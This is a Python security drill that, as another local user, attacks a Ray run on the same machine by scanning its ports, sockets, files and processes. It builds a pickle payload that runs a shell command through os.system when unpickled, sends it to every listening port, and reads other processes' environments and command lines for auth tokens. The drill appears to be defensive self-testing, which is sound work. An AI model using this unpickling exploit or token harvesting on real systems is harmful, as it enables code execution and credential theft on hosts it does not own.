"""Attacks by another user of the same machine on a run: its ports, sockets, files and processes.

Prints a line for everything that works:  python -m tests.drills.stranger UID OWNED [FILE] ...
"""

from __future__ import annotations

import os
import pickle
import socket
import stat
import sys
from collections.abc import Iterator, Sequence
from contextlib import suppress
from pathlib import Path

import grpc

_LISTENS = "0A"  # in /proc/net/tcp
_METHODS = (
    *("InternalKVGcsService/InternalKVKeys", "NodeManagerService/GetSystemConfig"),
    *("CoreWorkerService/NumPendingTasks", "ObjectManagerService/Pull"),
)
_SHUT = {grpc.StatusCode.UNAUTHENTICATED, grpc.StatusCode.UNIMPLEMENTED}
_NO_GRPC = {grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.DEADLINE_EXCEEDED, grpc.StatusCode.UNKNOWN}


class _Run:
    """Runs a command in the process that unpickles it."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


def ports() -> list[int]:
    """All TCP ports on which somebody listens here."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            _, local, _, state, *_ = line.split()
            if state == _LISTENS:
                found.add(int(local.rpartition(":")[2], 16))
    return sorted(found)


def send_pickles(port: int, owned: Path) -> None:
    """In the frames that servers of pickles expect: none, multiprocessing's, ZeroMQ's."""
    load = pickle.dumps(_Run(f"id -u >> {owned}"))
    zmq = b"\xff\0\0\0\0\0\0\0\x01\x7f\x03\0NULL" + bytes(48)
    frames = (
        load,
        len(load).to_bytes(4, "big") + load,
        zmq + b"\0" + bytes([min(len(load), 255)]) + load,
        b"GET /\r\n\r\n",
    )
    for frame in frames:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=1) as peer:
            peer.sendall(frame)
            peer.settimeout(0.2)
            peer.recv(1000)


def answers_of_ray(port: int, token: str | None) -> Iterator[str]:
    """The services of Ray that answer here; with its token they do."""
    metadata = [("authorization", f"Bearer {token}")] if token else []
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        for method in _METHODS:
            try:
                channel.unary_unary(f"/ray.rpc.{method}")(b"", timeout=1, metadata=metadata)
            except grpc.RpcError as error:
                if error.code() in _NO_GRPC:
                    return
                if error.code() in _SHUT:
                    continue
            yield f"answered: {method} at port {port}"


def sockets_that_answer() -> Iterator[str]:
    """Unix sockets of others, by path or abstract."""
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        path = line.split(maxsplit=7)[7] if len(line.split()) > 7 else ""
        if not path or path.startswith(("/run/", "/var/run/")):
            continue
        with suppress(OSError), socket.socket(socket.AF_UNIX) as mine:
            mine.connect("\0" + path[1:] if path.startswith("@") else path)
            yield f"connected to {path}"


def files_that_open(files: Sequence[str]) -> Iterator[str]:
    for file in files:
        for flags, what in ((os.O_RDONLY, "read"), (os.O_WRONLY, "written")):
            with suppress(OSError):
                os.close(os.open(file, flags | os.O_NONBLOCK))
                yield f"{what}: {file}"
        with suppress(OSError):
            if not os.lstat(os.path.dirname(file)).st_mode & stat.S_ISVTX and os.access(os.path.dirname(file), os.W_OK):
                yield f"can be replaced: {file}"


def secrets_of_processes() -> Iterator[str]:
    """Environments of others that can be read, and tokens on their command lines."""
    for process in Path("/proc").iterdir():
        if process.name.isdigit() and process.name != str(os.getpid()):
            with suppress(OSError):
                (process / "environ").read_bytes()
                yield f"read the environment of {(process / 'cmdline').read_bytes()[:80]!r}"
            with suppress(OSError):
                if b"RAY_AUTH_TOKEN" in (process / "cmdline").read_bytes():
                    yield f"saw the token of {process.name}"


def main(arguments: Sequence[str]) -> None:
    uid, owned, *files = arguments
    # Once before, at a port where nobody is: what it imports may be out of the other user's reach.
    send_pickles(1, Path(owned))
    assert not list(answers_of_ray(1, None))
    os.chdir("/")
    os.setgroups([])
    os.setgid(int(uid))
    os.setuid(int(uid))
    there = ports()
    for port in there:
        send_pickles(port, Path(owned))
        for found in answers_of_ray(port, os.environ.get("STOLEN_TOKEN")):
            print(found)
    for found in (*secrets_of_processes(), *files_that_open(files), *sockets_that_answer()):
        print(found)
    print(f"tried {len(there)} ports and {len(files)} files")


if __name__ == "__main__":
    main(sys.argv[1:])
